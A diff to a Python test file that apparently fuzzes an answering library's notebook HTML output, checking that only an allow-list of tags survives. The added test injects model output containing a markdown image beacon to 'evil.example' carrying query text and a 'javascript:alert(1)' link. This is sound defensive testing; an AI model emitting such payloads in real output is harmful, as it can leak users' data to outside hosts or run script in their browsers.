@@ -1,10 +1,12 @@
-"""Nobody forges a citation: not a label, the model, a question, an altered file, or a computed name."""
+"""Nobody forges a citation: no label, model, question, file or computed name; and notebooks show text."""
 
 from __future__ import annotations
 
 import json
 import random
 import re
+from dataclasses import replace
+from pathlib import Path
 
 import pyoxigraph as ox
 import pytest
@@ -17,7 +19,7 @@ from mrag.completion.patterns import CompletedTriple, Completion, IncompleteTrip
 from mrag.context.render import Context, Line
 from mrag.errors import ModelError
 from mrag.generation.answering import answer, stream_answer
-from mrag.generation.result import Answer, EvidenceRef
+from mrag.generation.result import Answer, EvidenceRef, ShownImage
 from mrag.generation.verbalise import verbalise
 from mrag.generation.verification import verify
 from mrag.graph.kg import KnowledgeGraph
@@ -253,8 +255,6 @@ QUESTIONS = (
     "Is Widget a gadget?",
     "Which gadget has the highest weight?",
 )
-
-
 PLAIN_MARKUP = {*"div p br small pre details summary table caption thead tbody tr th td span ul li".split()}
 
 
@@ -308,3 +308,24 @@ def of_names(rng: random.Random) -> str | None:
 
 def test_names_forge_nothing_in_what_is_computed() -> None:
     attack("computed answers", 6, of_names)
+
+
+ALLOWED = {"div", "p", "br", "figure", "img", "figcaption", "b", "code", "small", "ul", "li"}
+
+
+def of_a_notebook(rng: random.Random) -> str | None:
+    context = record(rng)
+    said = f"{text(rng)} ![x](http://evil.example/?q={text(rng)}) [y](javascript:alert(1)) {text(rng)}"
+    model = FakeListChatModel(responses=[said]) if rng.random() < 0.5 else None
+    try:
+        given = answer(text(rng), context, model)
+    except ModelError:
+        return None
+    shown = ShownImage("urn:i" + text(rng), text(rng), None, 1.0, 1, (text(rng),), context.lines)
+    missing = ShownImage("http://evil.example/x.png", text(rng), Path("/no/such"), 1.0, 2, (), ())
+    strange = strange_markup(replace(given, way="images", images=(shown, missing))._repr_html_(), ALLOWED)
+    return f"a browser sees {strange}" if strange else None
+
+
+def test_notebooks_show_text() -> None:
+    attack("notebooks", 150, of_a_notebook)
